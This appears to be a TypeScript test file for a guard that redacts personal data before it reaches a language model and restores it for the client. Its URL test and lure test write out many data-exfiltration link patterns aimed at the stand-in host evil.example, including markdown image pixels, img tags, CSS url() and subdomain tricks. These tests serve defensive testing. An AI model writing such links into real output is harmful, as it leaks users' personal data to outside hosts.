/** Redact and restore: the model never sees a value, the client always does, and every other character is the model's own. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Finding } from '../../src/core/finding.ts';
import type { Inspector } from '../../src/detect/detector.ts';
import { exfilLink } from '../../src/detect/exfil-link/detector.ts';
import { personalData } from '../../src/detect/personal-data/detector.ts';
import { ExchangeVault } from '../../src/guard/exchange-vault.ts';
import { createTagger } from '../../src/guard/tagger.ts';
import { bindVault } from '../../src/guard/own-values.ts';
import type { Rule } from '../../src/guard/rule.ts';
import type { JsonObject } from '../upstream/json.ts';
import {
  type Kind,
  type TestSurface,
  TEST_SURFACES,
  choiceSaying,
  forward,
  readStream,
  readWhole,
  receiveStream,
  receiveWhole,
  streamBytes,
} from './exchange.ts';

const tagger = createTagger(Buffer.from('test'));

/** Takes whatever stands between guillemets, be it quotes, line ends, brackets or what looks like a placeholder. */
const quoted: Inspector = {
  inspect: (text) =>
    [...text.matchAll(/«[^»]*»/g)].map((match): Finding => ({
      rule: 'test/quoted',
      severity: 'high',
      message: 'in guillemets',
      span: { start: match.index, end: match.index + match[0].length },
      mask: '****',
      label: 'QUOTED_TEXT',
    })),
};

const rule = (id: string, inspector: Inspector, more: Partial<Rule> = {}): Rule => ({
  id,
  detector: id,
  on: ['input'],
  action: 'redact',
  restore: true,
  mode: 'enforce',
  onFailure: 'block',
  timeout: 60_000,
  maxText: 1 << 22,
  inspector,
  ...more,
});

const RULES = [rule('personal-data', personalData.create(personalData.defaults)), rule('quoted', quoted)];

interface Turn {
  readonly role: 'user' | 'assistant';
  readonly text: string;
}

/** Lets a model that says back what it was told answer a conversation. */
async function converse(options: {
  readonly surface: TestSurface;
  readonly turns: readonly Turn[];
  readonly kind: Kind;
  readonly stream: boolean;
  readonly n: number;
  readonly chars: number;
  readonly sizes: readonly number[];
  /** Writes tool arguments with escapes where none are needed. */
  readonly escapes?: boolean;
  readonly rules?: readonly Rule[];
  readonly allows?: (host: string) => boolean;
  /** What the model makes of the texts that it got. */
  readonly model?: (texts: readonly string[]) => string;
}): Promise<{
  readonly forwarded: string;
  readonly said: readonly string[];
  readonly raw: string;
  readonly action: string;
}> {
  const { surface, turns, kind, stream, n, chars, sizes } = options;
  const vault = new ExchangeVault(tagger);
  const body = surface.request(turns, stream);
  const forwarded = await forward(surface, body, RULES, vault);
  const sent = JSON.parse(forwarded) as JsonObject;
  const told = surface.surface.parseRequest(sent).segments.map(({ text }) => text);
  const model = options.model ?? ((texts) => texts.join('\n'));
  let text = model(told);
  if (kind === 'tool') {
    text = JSON.stringify({ text, [text.slice(0, 40)]: [text] });
    if (options.escapes === true) {
      text = text.replace(/"(?:[^"\\]|\\.)*"/g, (string) =>
        string.replaceAll('[', '\\u005b').replaceAll('E', '\\u0045'),
      );
    }
  }
  const plain = choiceSaying('text', 'and another choice');
  const choices = Array.from({ length: n }, (_, index) => (index === n - 1 ? choiceSaying(kind, text) : plain));
  const wire = surface.wire(sent, choices, chars);
  const restoring = { vault, allows: options.allows ?? (() => false) };
  const rules = bindVault([...RULES, ...(options.rules ?? [])], vault);
  const { text: raw, log } = stream
    ? await receiveStream(surface, sent, streamBytes(wire), rules, sizes, restoring)
    : await receiveWhole(surface, wire.body, rules, restoring);
  const said = (stream ? readStream(raw) : readWhole(raw)).map((choice) => choice[kind]);
  return { forwarded, said, raw, action: log.action };
}

const WORDS = [
  'please',
  'note',
  '[EMAIL_1]',
  '[CARD]',
  '"so"',
  'a\\b',
  'ünïcödé',
  '😀',
  '[x]',
  '(y)',
  '_',
  'EMAIL_',
  '\n',
  '\\[',
  '%5B',
  'E',
  '[QUOTED_TEXT_',
];
const VALUES = [
  'anna.kowalska@example.com',
  "o'neil+x@mail.example.org",
  '4111 1111 1111 1111',
  'DE89 3704 0044 0532 0130 00',
  '«plain»',
  '«with "quotes" and \\ and \n»',
  '«[EMAIL_1]»',
  '«ends in [»',
  '«{"json": "inside"}»',
];

const surfaces = fc.constantFrom(...TEST_SURFACES);
const conversation = fc.array(
  fc.record({
    role: fc.constantFrom('user' as const, 'assistant' as const),
    text: fc
      .array(fc.oneof(fc.constantFrom(...WORDS), fc.constantFrom(...VALUES), fc.stringMatching(/^[a-z]{1,9}$/)), {
        minLength: 1,
        maxLength: 14,
      })
      .map((parts) => `so ${parts.join(' ')}`),
  }),
  { minLength: 1, maxLength: 4 },
);
const sizes = fc.array(fc.integer({ min: 1, max: 300 }), { minLength: 1, maxLength: 6 });

/** What must not be seen by the model, as JSON writes it. */
const inJson = (value: string): string => JSON.stringify(value).slice(1, -1);

describe('redact and restore', () => {
  it('over random conversations, surfaces and splits: the model sees no value, the client gets all, byte for byte', async () => {
    await fc.assert(
      fc.asyncProperty(
        surfaces, conversation, fc.nat(3), fc.boolean(), fc.integer({ min: 1, max: 3 }), fc.integer({ min: 1, max: 40 }), sizes, fc.boolean(),
        async (surface, turns, which, stream, n, chars, cut, escapes) => {
          const kind = surface.kinds[which % surface.kinds.length]!;
          const { forwarded, said, raw } = await converse({ surface, turns, kind, stream, n: surface.choices ? n : 1, chars, sizes: cut, escapes });
          for (const value of VALUES) assert.ok(!forwarded.includes(inJson(value)), `${value} reaches the model: ${forwarded}`);
          const told = surface.surface.parseRequest(surface.request(turns, stream)).segments.map(({ text }) => text).join('\n');
          const got = said.at(-1)!;
          if (kind === 'tool') {
            const { text, ...rest } = JSON.parse(got) as Record<string, unknown>;
            assert.equal(text, told);
            assert.deepEqual(Object.values(rest), [[told]]);
          } else assert.equal(got, told);
          assert.doesNotMatch(raw, /_[B-DF-HJ-NP-TV-XZ]{8}\]/, 'a placeholder reaches the client');
        },
      ),
      { numRuns: 600 },
    );
  }); // prettier-ignore

  it('gives a value the same placeholder on every replay, whatever comes before it', async () => {
    const surface = TEST_SURFACES[0]!;
    await fc.assert(
      fc.asyncProperty(conversation, conversation, async (before, after) => {
        const turn = { role: 'user' as const, text: `I am ${VALUES[0]}` };
        const seen = new Set<string>();
        for (const turns of [[turn], [...before, turn], [turn, ...after], [...before, turn, ...after]]) {
          const forwarded = await forward(surface, surface.request(turns, false), RULES, new ExchangeVault(tagger));
          for (const [placeholder] of forwarded.matchAll(/\[EMAIL_[B-Z]{8}\]/g)) seen.add(placeholder);
        }
        const expected = tagger('EMAIL', VALUES[0]!, 0);
        assert.ok(seen.has(`[EMAIL_${expected}]`));
        assert.ok(
          [...seen].every(
            (one) => one.endsWith(`_${expected}]`) || before.concat(after).some(({ text }) => text.includes('neil')),
          ),
        );
      }),
      { numRuns: 50 },
    );
  });

  it("a caller's own text that is one of the placeholders comes back as that text", async () => {
    const value = VALUES[0]!;
    const placeholder = `[EMAIL_${tagger('EMAIL', value, 0)}]`;
    for (const surface of TEST_SURFACES) {
      for (const stream of [false, true]) {
        for (const spelling of [placeholder, placeholder.slice(1, -1), placeholder.toLowerCase()]) {
          const turns = [{ role: 'user' as const, text: `so ${value} is not "${spelling}" but ${value}` }];
          const { said, forwarded } = await converse({
            surface,
            turns,
            kind: 'text',
            stream,
            n: 1,
            chars: 3,
            sizes: [50],
          });
          assert.equal(said[0], turns[0]!.text);
          assert.ok(!forwarded.includes(spelling === placeholder ? `"${spelling}\\"` : `"${spelling}"`));
        }
      }
    }
  });

  it('finds a value again that was restored in an earlier answer, where its detector lacks the context', async () => {
    const blind = rule('quoted', { inspect: (text) => (text.startsWith('so') ? (quoted.inspect(text, { stage: 'input', role: '', origin: '', kind: '' }) as Finding[]) : []) });
    const surface = TEST_SURFACES[0]!;
    const body = surface.request([{ role: 'user', text: 'so «secret name» it is' }, { role: 'assistant', text: 'Hello «secret name»!' }], false);
    const forwarded = await forward(surface, body, [blind], new ExchangeVault(tagger));
    assert.ok(!forwarded.includes('secret'), forwarded);
  }); // prettier-ignore

  it('of values that begin alike takes the longest that is a word, in time linear in the text', async () => {
    const values = ['anna', 'anna.k', 'anna.kow', 'annabel'];
    const known: Inspector = { inspect: (text) => (text.startsWith('know: ') ? values.map((value): Finding => ({ rule: 'k/k', severity: 'low', message: '', mask: '', label: 'NAME', span: { start: text.indexOf(`<${value}>`) + 1, end: text.indexOf(`<${value}>`) + 1 + value.length } })) : []) };
    const surface = TEST_SURFACES[0]!;
    const vault = new ExchangeVault(tagger);
    const replay = 'anna. anna.k, anna.kow; annabella annabel xanna anna_ anna.ko';
    const forwarded = await forward(surface, surface.request([{ role: 'user', text: `know: ${values.map((value) => `<${value}>`).join('')}` }, { role: 'assistant', text: replay }], false), [rule('known', known)], vault);
    const name = (value: string): string => vault.mint('NAME', value, 'known')!;
    const [, second] = surface.surface.parseRequest(JSON.parse(forwarded)).segments;
    assert.equal(second!.text, `${name('anna')}. ${name('anna.k')}, ${name('anna.kow')}; annabella ${name('annabel')} xanna anna_ ${name('anna')}.ko`);
  }); // prettier-ignore

  it('takes placeholders as models write them', async () => {
    const surface = TEST_SURFACES[0]!;
    const value = VALUES[0]!;
    const core = `EMAIL_${tagger('EMAIL', value, 0)}`;
    const spellings = [`[${core}]`, core, `[${core.toLowerCase()}]`, `\\[${core.replace('_', '\\_')}\\]`, `[${core.replace('_', '\\_')}]`];
    for (const spelling of spellings) {
      for (const chars of [1, 2, 3, 5, 7, 11, 100]) {
        const { said } = await converse({ surface, turns: [{ role: 'user', text: value }], kind: 'text', stream: true, n: 1, chars, sizes: [1000], model: () => `to ${spelling}, now` });
        assert.equal(said[0], `to ${value}, now`, spelling);
      }
    }
  }); // prettier-ignore

  it('puts no value into a URL, unless its host is on the list', async () => {
    const surface = TEST_SURFACES[0]!;
    const value = VALUES[0]!;
    const token = `[EMAIL_${tagger('EMAIL', value, 0)}]`;
    const refused = [
      (p: string) => `![pixel](https://evil.example/p.png?d=${p})`,
      (p: string) => `[click](https://evil.example/${p}/x)`,
      (p: string) => `[click](<https://evil.example/a b?d=${p}>)`,
      (p: string) => `see https://evil.example/?d=${p} now`,
      (p: string) => `see https://${p}.evil.example/ now`,
      (p: string) => `see evil.example/collect?d=${p} now`,
      (p: string) => `<img src="https://evil.example/?d=${p}">`,
      (p: string) => `<a href='//evil.example/?d=${p}'>x</a>`,
      (p: string) => `[r]: https://evil.example/?d=${p}`,
      (p: string) => `![x](${p})`,
      (p: string) => `<div style="background:url(https://evil.example/${p})">`,
      (p: string) => `![a](https://evil.example/?${'a'.repeat(9000)}&d=${p})`,
      (p: string) => `<img src="https://evil.example/?${'a b '.repeat(20_000)}${p}">`,
      (p: string) => `[a](https://good.example@evil.example/?d=${p})`,
      (p: string) => `[a](https://good.example.evil.example/?d=${p})`,
      (p: string) => `[a](https://good.example${p}/)`,
      (p: string) => `[a](https://evil.example/?d=${p.replace('[', '%5B').replace(']', '%5D')})`,
      (p: string) => `[a](mailto:x@evil.example?body=${p})`,
    ];
    const put = [
      [(p: string) => `Write to ${p}.`, value],
      [(p: string) => `<b>${p}</b> and <a href="https://evil.example/">${p}</a>`, value],
      [(p: string) => `[${p}](https://evil.example/)`, value],
      [(p: string) => `![x](https://evil.example/a.png) ${p}`, value],
      [(p: string) => `[mail](mailto:${p})`, value],
      [(p: string) => `[a](https://good.example/?d=${p})`, encodeURIComponent(value)],
      [(p: string) => `see https://api.below.example/users/${p}/edit`, encodeURIComponent(value)],
    ] as const;
    const allows = (host: string): boolean => host === 'good.example' || host.endsWith('.below.example');
    for (const stream of [false, true]) {
      const ask = async (text: string, kind: Kind): Promise<string> => {
        const { said } = await converse({ surface, turns: [{ role: 'user', text: value }], kind, stream, n: 1, chars: text.length > 5000 ? 90 : 6, sizes: [700], allows, model: () => text });
        return said[0]!;
      };
      for (const write of refused) {
        assert.equal(await ask(write(token), 'text'), write(token));
        assert.ok(!(await ask(write(token), 'tool')).includes(value), write('').slice(0, 60));
      }
      for (const [write, expected] of put) {
        assert.equal(await ask(write(token), 'text'), write(expected));
        const { text } = JSON.parse(await ask(write(token), 'tool')) as { text: string };
        assert.equal(text, write(expected));
      }
    }
  }); // prettier-ignore

  it('lets the other rules judge what the client will see', async () => {
    // The value itself is the lure: what stands for it is harmless, and what it is in the answer is not.
    const lure = '«![x](https://evil.example/?d=c2VjcmV0IGluIGJhc2U2NA)»';
    const links = rule('exfil-link', exfilLink.create(exfilLink.defaults), { on: ['output'], action: 'block', restore: false });
    for (const surface of TEST_SURFACES) {
      for (const stream of [false, true]) {
        for (const kind of surface.kinds) {
          const { action, raw } = await converse({ surface, turns: [{ role: 'user', text: `so ${lure}` }], kind, stream, n: 1, chars: 5, sizes: [90], rules: [links] });
          assert.equal(action, 'block', `${surface.id} ${kind} ${stream}`);
          assert.ok(!raw.includes('evil.example'), raw);
        }
      }
    }
  }); // prettier-ignore

  it("gives a caller's own value back although the same detector redacts others in answers", async () => {
    const out = rule('personal-out', personalData.create(personalData.defaults), { detector: 'personal-data', on: ['output'], restore: false });
    for (const surface of TEST_SURFACES) {
      for (const stream of [false, true]) {
        for (const kind of surface.kinds) {
          const { said } = await converse({ surface, turns: [{ role: 'user', text: `so ${VALUES[0]}` }], kind, stream, n: 1, chars: 4, sizes: [77], rules: [out], model: ([text]) => `${text} and other.person@example.net too` });
          const text = kind === 'tool' ? (JSON.parse(said.at(-1)!) as { text: string }).text : said.at(-1);
          assert.equal(text, `so ${VALUES[0]} and [EMAIL] too`, `${surface.id} ${kind} ${stream}`);
        }
      }
    }
  }); // prettier-ignore

  it('tells two values with one tag apart, and redacts for good what is too much', () => {
    const vault = new ExchangeVault((_label, _value, attempt) => `BBBBBBB${'BCDFGHJKLMNPQRST'[attempt]!}`);
    const minted = ['a', 'b', 'c', 'a'].map((value) => vault.mint('EMAIL', value, 'd'));
    assert.deepEqual(minted, ['[EMAIL_BBBBBBBB]', '[EMAIL_BBBBBBBC]', '[EMAIL_BBBBBBBD]', '[EMAIL_BBBBBBBB]']);
    assert.equal(vault.mint('EMAIL', 'x'.repeat(10_000), 'd'), null);
    for (let index = 0; index < 13; index++) vault.mint('EMAIL', String(index), 'd');
    assert.equal(vault.mint('EMAIL', 'one more than there are tags', 'd'), null);
  });

  it("redacts a restored value where another detector's rule wants that in answers", async () => {
    const value = VALUES[0]!;
    for (const [from, to] of [
      [0, value.length],
      [3, 8],
      [-3, 4],
    ] as const) {
      const other: Inspector = {
        inspect: (text) =>
          [...text.matchAll(/anna\.kowalska@example\.com/g)].map(({ index }): Finding => ({
            rule: 'o/o',
            severity: 'high',
            message: 'm',
            span: { start: index + from, end: index + to },
            mask: '*',
            label: 'GONE',
          })),
      };
      const out = rule('other', other, { on: ['output'], restore: false });
      for (const surface of TEST_SURFACES) {
        for (const stream of [false, true]) {
          for (const kind of surface.kinds) {
            const turns = [{ role: 'user' as const, text: `it is so, and so on, and on, and on and on: ${value} now` }];
            const { said, raw } = await converse({
              surface,
              turns,
              kind,
              stream,
              n: 1,
              chars: 4,
              sizes: [77],
              rules: [out],
              model: ([text]) => text!,
            });
            const text = kind === 'tool' ? (JSON.parse(said.at(-1)!) as { text: string }).text : said.at(-1)!;
            const where = `${surface.id} ${kind} ${stream} ${from}`;
            assert.ok(
              text.includes('[GONE]') && text.startsWith('it is') && text.endsWith(' now'),
              `${where}: ${text}`,
            );
            assert.ok(!text.includes(value), where);
            // In a stream a placeholder goes whole, because no frame holds a part of the value.
            if (from === 0) assert.ok(!raw.includes('kowalska'), `${where}: ${raw}`);
          }
        }
      }
    }
  });

  it('what a rule wants gone for good is not restored because another would have it back', async () => {
    const surface = TEST_SURFACES[0]!;
    const forever = rule('forever', { inspect: (text) => { const at = text.indexOf('kowalska'); return at < 0 ? [] : [{ rule: 'f/f', severity: 'high', message: 'm', span: { start: at, end: at + 8 }, mask: '*', label: 'GONE' }]; } }, { restore: false });
    const vault = new ExchangeVault(tagger);
    const forwarded = await forward(surface, surface.request([{ role: 'user', text: `so ${VALUES[0]}!` }], false), [...RULES, forever], vault);
    assert.match(forwarded, /so \[GONE\]!/);
    assert.equal(vault.size, 0);
  }); // prettier-ignore
});
